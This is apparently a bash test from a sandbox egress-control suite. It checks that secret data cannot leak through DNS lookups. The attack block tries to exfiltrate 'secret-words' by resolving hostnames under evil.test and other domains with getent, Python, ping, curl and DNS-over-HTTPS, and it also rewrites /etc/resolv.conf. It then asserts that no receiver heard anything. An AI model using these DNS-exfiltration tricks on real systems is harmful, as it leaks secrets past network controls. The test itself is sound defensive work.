#!/usr/bin/env bash
# N8 (CVE-2025-55284): data in names. No question of the jar, of any type, to any server, by any way, becomes a question
# outside; a name is asked for only when a request to it is allowed, and then it is that name.
source "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
allow allowed.test
allow '*.wild.test'
program dns_questions
attack_shell '
    ./dns_questions secret-words 127.0.0.1 10.7.0.1 93.184.216.12 10.7.0.9 198.18.0.1 8.8.8.8 fd07::1
    for name in secret-words.evil.test secret-words.allowed.test secret-words.example.com secret-words.wild.test; do
        getent ahosts $name; python3 -c "import socket; socket.getaddrinfo(\"$name\", 443)"
        ping -c 1 -W 1 $name &
    done; wait
    for name in secret-words.evil.test secret-words.allowed.test secret-words.example.com; do
        (curl -sS -m 3 https://$name/; curl -sS -m 3 --doh-url https://allowed.test/dns-query https://$name/) &
    done; wait
    echo nameserver 10.7.0.1 > /etc/resolv.conf; getent hosts secret-words.evil.test'
receiver_silent dns secret-words  # below an allowed wildcard too: only a request makes egress ask
all_silent evil evil-raw neighbour-raw
receiver_silent wire '"protocol": "udp", "source": "10.7.0.5", "target": "(93|8)\.'
receiver_silent allowed POST  # DNS over HTTPS is a request like any other, and no rule allows this one

attack curl -sS -m 4 https://allowed.test/by-name
receiver_got allowed 'GET /by-name'
receiver_got dns '"name": "allowed.test"'
timeout 20 ./dns_questions secret-words 10.7.0.1  # the control
receiver_got dns secret-words
